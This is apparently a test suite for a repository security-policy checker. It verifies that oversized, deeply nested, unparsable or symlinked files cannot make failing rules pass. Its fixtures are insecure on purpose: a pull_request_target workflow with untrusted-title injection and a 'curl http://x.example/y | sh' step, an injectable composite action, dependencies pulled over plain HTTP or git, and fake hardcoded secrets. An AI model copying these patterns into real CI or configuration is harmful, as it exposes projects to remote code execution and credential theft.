"""What our limits and parsers refuse is unseen: no rule passes because of it.

Each content below makes some rules fail. Hidden from us (larger than we read, deeper than we parse, not
parsable, or behind a link), it must leave none of these rules pass or not applicable.
"""

import json
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checker.app.policies import compile_plan
from checker.collectors import Checkout
from checker.collectors.registry import collect
from checker.documents.keys import SEARCHES
from checker.engine.call_log import CallLog
from checker.engine.compile import Plan
from checker.engine.evaluate import Evaluator
from checker.engine.rule_verdict import Evidence
from checker.errors import Cause
from checker.expressions.fact_table import BUG
from checker.expressions.functions import TreeAnswers
from checker.files import Files, MemoryTree
from checker.model.audit import Repository
from checker.model.facts import Facts, Problem
from checker.model.result import Outcome
from checker.model.tree import BLOB_LIMIT
from checker.resources import folder

ROOT = Path(__file__).parent.parent.parent
NOW = datetime(2026, 11, 1, tzinfo=UTC)
LINK = 0o120000
BASE = {
    "README.md": "# Pay\n\n## Install\n\npip install pay\n",
    "LICENSE": "MIT License\n",
    "src/pay.py": "print(1)\n",
    ".github/workflows/ci.yml": (
        "name: ci\non: [pull_request]\npermissions: {}\nconcurrency: {group: a, cancel-in-progress: true}\n"
        "jobs:\n  a:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    steps: [{run: pytest}]\n"
    ),
}
HEAD = "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
WORKFLOW = HEAD + (
    "      - uses: actions/checkout@v4\n        with: {ref: '${{ github.event.pull_request.head.sha }}'}\n"
    "      - run: echo ${{ github.event.pull_request.title }}; curl http://x.example/y | sh\n"
)
ACTION = (
    "name: a\nruns:\n  using: composite\n  steps:\n"
    "    - {run: 'echo ${{ github.event.issue.title }}', shell: bash}\n    - uses: some/thing@v1\n"
)
CALLER = "on: [issues]\npermissions: {}\njobs: {a: {runs-on: x, steps: [{uses: ./third_party/a}]}}\n"
PYPROJECT = (
    '[build-system]\nrequires = ["setuptools", "wheel"]\n[project]\nname = "x"\nversion = "1"\n'
    'requires-python = ">=3.6,<3.12"\nlicense = "GPL-3.0-only"\n'
    'dependencies = ["a @ git+https://x.example/a", "b>=1"]\n'
    '[project.urls]\nhome = "http://x.example"\n[[tool.uv.index]]\nurl = "http://x.example/simple"\n'
)
PACKAGE = (
    '{"name": "x", "version": "1.0.0", "main": "x.js", "license": "GPL-3.0-only", "homepage": "http://x.example",'
    '\n"dependencies": {"a": "git+https://x.example/a", "b": "^1", "c": "http://x.example/c.tgz"}}\n'
)
CARGO = '[package]\nname = "x"\nversion = "1.0.0"\n[dependencies]\na = {git = "https://x.example/a"}\n'
POM = (
    "<project>\n<url>http://x.example</url>\n<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId>"
    "<version>LATEST</version></dependency></dependencies>\n"
    "<repositories><repository><url>http://x.example/m2</url></repository></repositories>\n</project>\n"
)
TERRAFORM = (
    'provider "aws" {}\nmodule "a" {\n  source = "git::https://x.example/a"\n}\n'
    'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\n'
)
DOCKERFILE = "FROM debian:latest\nENV API_TOKEN=Zx8Qm2Lr7Vb4Tn9W\nCOPY . /app\n"
SECRET = "a: 1\nkey: |\n  AKIA2E7Q4MZ5XW3TR6KY\n  secret: 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\n"
RUST = "fn main() {\n    unsafe { f() }\n}\n"

CONTENTS: Mapping[str, tuple[str, Mapping[str, str]]] = {
    "workflow": (".github/workflows/evil.yml", {".github/workflows/evil.yml": WORKFLOW}),
    "generated workflow": (
        ".github/workflows/evil.yml",
        {".github/workflows/evil.yml": WORKFLOW, ".gitattributes": "*.yml linguist-generated\n"},
    ),
    "action": (
        "third_party/a/action.yml",
        {"third_party/a/action.yml": ACTION, ".github/workflows/e.yml": CALLER},
    ),
    "pyproject.toml": ("pyproject.toml", {"pyproject.toml": PYPROJECT}),
    "requirements.txt": (
        "requirements.txt",
        {"requirements.txt": "--index-url http://x.example/s\na\nb @ https://x.example/b.zip\n"},
    ),
    "package.json": ("package.json", {"package.json": PACKAGE}),
    "tsconfig.json": (
        "tsconfig.json",
        {"tsconfig.json": '{"compilerOptions": {"strict": false}}\n', "package.json": '{"name": "x"}'},
    ),
    "Cargo.toml": ("Cargo.toml", {"Cargo.toml": CARGO, "src/main.rs": "fn main() {}\n"}),
    "main.rs": ("src/main.rs", {"Cargo.toml": CARGO, "src/main.rs": RUST, "src/other.rs": "x\n"}),
    "go.mod": (
        "go.mod",
        {
            "go.mod": "module x.example/y\n\ngo 1.13\n\nreplace a => ../a\nrequire a v1.0.0\n",
            "main.go": "x\n",
        },
    ),
    "pom.xml": ("pom.xml", {"pom.xml": POM}),
    "Gemfile": ("Gemfile", {"Gemfile": 'source "http://x.example"\ngem "a", git: "https://x.example/a"\n'}),
    "composer.json": (
        "composer.json",
        {
            "composer.json": '{"name": "a/b", "require": {"c/d": "*"}, "repositories": [{"url": "http://x.example"}]}'
        },
    ),
    "main.tf": ("main.tf", {"main.tf": TERRAFORM}),
    "prod.tfvars": ("prod.tfvars", {"prod.tfvars": 'db_password = "Zx8Qm2Lr7Vb4Tn9W"\n'}),
    "Dockerfile": ("Dockerfile", {"Dockerfile": DOCKERFILE}),
    "build.docker": ("build.docker", {"build.docker": DOCKERFILE}),
    "Containerfile.prod": ("Containerfile.prod", {"Containerfile.prod": DOCKERFILE}),
    "configuration": ("config/prod.yml", {"config/prod.yml": SECRET}),
    "dependabot.yml": (".github/dependabot.yml", {".github/dependabot.yml": "version: 1\nupdates: []\n"}),
    "issue form": (".github/ISSUE_TEMPLATE/bug.yml", {".github/ISSUE_TEMPLATE/bug.yml": "name: bug\n"}),
    "CODEOWNERS": (".github/CODEOWNERS", {".github/CODEOWNERS": "/src nobody\n"}),
    "README": ("README.md", {"README.md": "# x\n\n[a](missing.md) [b](http://x.example/y.tar.gz)\n"}),
    "LICENSE": ("LICENSE", {"LICENSE": "All rights reserved, and so on.\n" * 40}),
    "security-insights.yml": ("security-insights.yml", {"security-insights.yml": "header: -1\n"}),
    ".readthedocs.yaml": (".readthedocs.yaml", {".readthedocs.yaml": "version: 1\n"}),
    ".gitlab-ci.yml": (
        ".gitlab-ci.yml",
        {".gitlab-ci.yml": "publish:\n  script: twine upload dist/*\n", "pyproject.toml": PYPROJECT},
    ),
}
"""By name: the file that is hidden, and the files that make rules fail."""
_COMMENTS = {".json": (" ", ""), ".xml": ("<!-- ", " -->"), ".md": ("", "")}


def _ending(path: str) -> str:
    return "." + path.rpartition(".")[2]


def oversized(path: str, text: str) -> str:
    """Append more than is read, in a form that changes nothing for the tools that the file is for."""
    start, end = _COMMENTS.get(_ending(path), ("# ", ""))
    filler = " " if _ending(path) == ".json" else "x"
    return f"{text}{start}{filler * BLOB_LIMIT}{end}\n"


_NESTED = "[" * 150 + "]" * 150
_DEEP: Mapping[str, Callable[[str], str]] = {
    "yml yaml": lambda text: f"{text}deep: {_NESTED}\n",
    "json": lambda text: text.replace("{", f'{{"deep": {_NESTED}, ', 1),
    "toml": lambda text: f"deep = {_NESTED}\n{text}",
    "tf tfvars": lambda text: text + "x " + "{\ny " * 60 + "}\n" * 60,
    "Dockerfile docker prod": lambda text: text + "LABEL a=b\n" * 2001,
    "github/CODEOWNERS": lambda text: text + "# more\n" * 10_001,
    "txt mod": lambda text: "\n" * 20_001 + text,
}


def deep(path: str, text: str) -> str:
    """Add what is nested deeper, or has more parts, than we parse, and is valid."""
    ways = (way for endings, way in _DEEP.items() if _ending(path)[1:] in endings.split())
    return next(ways, lambda text: oversized(path, text))(text)


def unparsable(path: str, text: str) -> str:
    """Add what our parser refuses, whatever others make of it."""
    name = path.rpartition("/")[2]
    if name.endswith((".tf", ".tfvars")):
        return f'{text}x = "\n'
    if name.endswith((".yml", ".yaml", ".json", ".toml", ".xml")):
        return f"{text}# \x01 \x07 }}{{[\n"
    return text.replace("FROM", "WHAT\nFROM") if text.startswith("FROM") else oversized(path, text)


HIDING: Mapping[str, Callable[[str, str], str]] = {
    "oversized": oversized,
    "deep": deep,
    "unparsable": unparsable,
    "link": lambda _path, _text: "elsewhere",
}


@cache
def plan() -> Plan:
    """Return every rule that we ship, those left out that need no files of the repository."""
    packs = sorted(path.parent.name for path in folder("policies").glob("*/pack.yml"))
    return compile_plan.prepare([pack for pack in packs if pack != "baseline-github"], ROOT, NOW.date())


def audited(files: Mapping[str, str], link: str = "") -> tuple[Mapping[str, Outcome], Facts]:
    """Return the outcome of each rule, and the facts."""
    tree = Files(MemoryTree(files, {link: LINK} if link else None))
    repository = Repository("github.com/acme/pay", "acme/pay", attributes={"visibility": "public"})
    rules = [rule for rule in plan().policy.rules if rule.subject == "repository"]
    asked = frozenset(path for rule in rules for path in plan().wanted_by(rule.id))
    facts = plan().table.typed(collect(Checkout(repository, tree, None, NOW), asked))
    evidence = Evidence(facts, CallLog(TreeAnswers(tree, NOW)), NOW)
    evaluator = Evaluator(plan())
    return {rule.id: evaluator.verdict(rule, evidence, lambda _: False).outcome for rule in rules}, facts


@cache
def failing(name: str) -> frozenset[str]:
    """Return the rules that fail once the content is there."""
    before, _ = audited({**BASE, **{path: "" for path in CONTENTS[name][1] if path in BASE}})
    after, _ = audited({**BASE, **CONTENTS[name][1]})
    good = (Outcome.PASS, Outcome.NOT_APPLICABLE)
    return frozenset(rule for rule, outcome in after.items() if outcome == "fail" and before[rule] in good)


def concerning(facts: Facts, path: str) -> list[Problem]:
    """Return the problems that tell of a file."""
    return [problem for problem in facts.problems if path in problem.files]


@pytest.mark.parametrize("way", HIDING)
@pytest.mark.parametrize("name", CONTENTS)
def test_what_is_hidden_from_us_does_not_pass(name: str, way: str) -> None:
    """A file that a limit, a parser or a link hides makes no rule pass that fails when it is seen."""
    path, files = CONTENTS[name]
    hidden = {**BASE, **files, path: HIDING[way](path, files[path])}
    outcomes, facts = audited(hidden, path if way == "link" else "")
    good = (Outcome.PASS, Outcome.NOT_APPLICABLE)
    assert {rule: outcomes[rule] for rule in failing(name) if outcomes[rule] in good} == {}
    assert not [problem for problem in facts.problems if problem.reason.startswith(BUG)]
    assert not [rule for rule, outcome in outcomes.items() if outcome == "error"]
    told = concerning(facts, path)
    assert told or all(outcomes[rule] == "fail" for rule in failing(name)), "nobody is told"
    assert {problem.cause for problem in told} <= {Cause.UNREADABLE}


NAMES = sorted({path for _, files in CONTENTS.values() for path in files} | {
    "setup.py", "setup.cfg", "tox.ini", "Pipfile", "build.gradle", "REUSE.toml", ".reuse/dep5", "CITATION.cff",
    ".pre-commit-config.yaml", "renovate.json5", "pnpm-workspace.yaml", "Makefile", "CONTRIBUTING.md", "SECURITY.md",
    "k8s/a.yaml", ".github/FUNDING.yml", "lefthook.yml", ".npmrc", "a.gemspec", "pubspec.yaml", ".coveragerc",
})  # fmt: skip
PIECES = st.sampled_from(
    ["{", "}", "[", "]", ": ", "- ", "\n", "\n  ", "a", "name", "on", "jobs", "steps", "uses: ./a", "&x ", "*x ", "<<: *x",
     "---\n", "= ", '"', "'", "#", "\0", "\ufeff", "\x07", "\ud83d", "1", "null", "-1", "dependencies", "project", "FROM a",
     "<a>", "</a>", "${{ ", " }}", "[[", "]]", "version", "updates", "extends", "repos", "license"]
)  # fmt: skip


@given(st.dictionaries(st.sampled_from(NAMES), st.lists(PIECES, max_size=30).map("".join), max_size=6))
def test_no_content_is_a_bug_of_ours(files: Mapping[str, str]) -> None:
    """Whatever stands in the files, each rule comes out, and none as an error."""
    contents = {path: text.encode("utf-8", "replace").decode() for path, text in files.items()}
    outcomes, facts = audited({**BASE, **contents})
    assert not [problem for problem in facts.problems if problem.reason.startswith(BUG)]
    assert not [rule for rule, outcome in outcomes.items() if outcome == "error"]


@pytest.mark.parametrize("count", [20_000])
def test_dependencies_cost_one_pass(count: int) -> None:
    """Each of many dependencies has its own line, and the text is not searched again for any of them."""
    text = json.dumps({"name": "x", "dependencies": {f"p{n}": "1" for n in range(count)}}, indent=0)
    files = Files(MemoryTree({"package.json": text}))
    document = files.document("package.json")
    keys = document._keys
    lines = [document.line("dependencies", f"p{n}") for n in range(0, count, 7)]
    assert lines == [n + 4 for n in range(0, count, 7)]
    assert keys._searches == SEARCHES
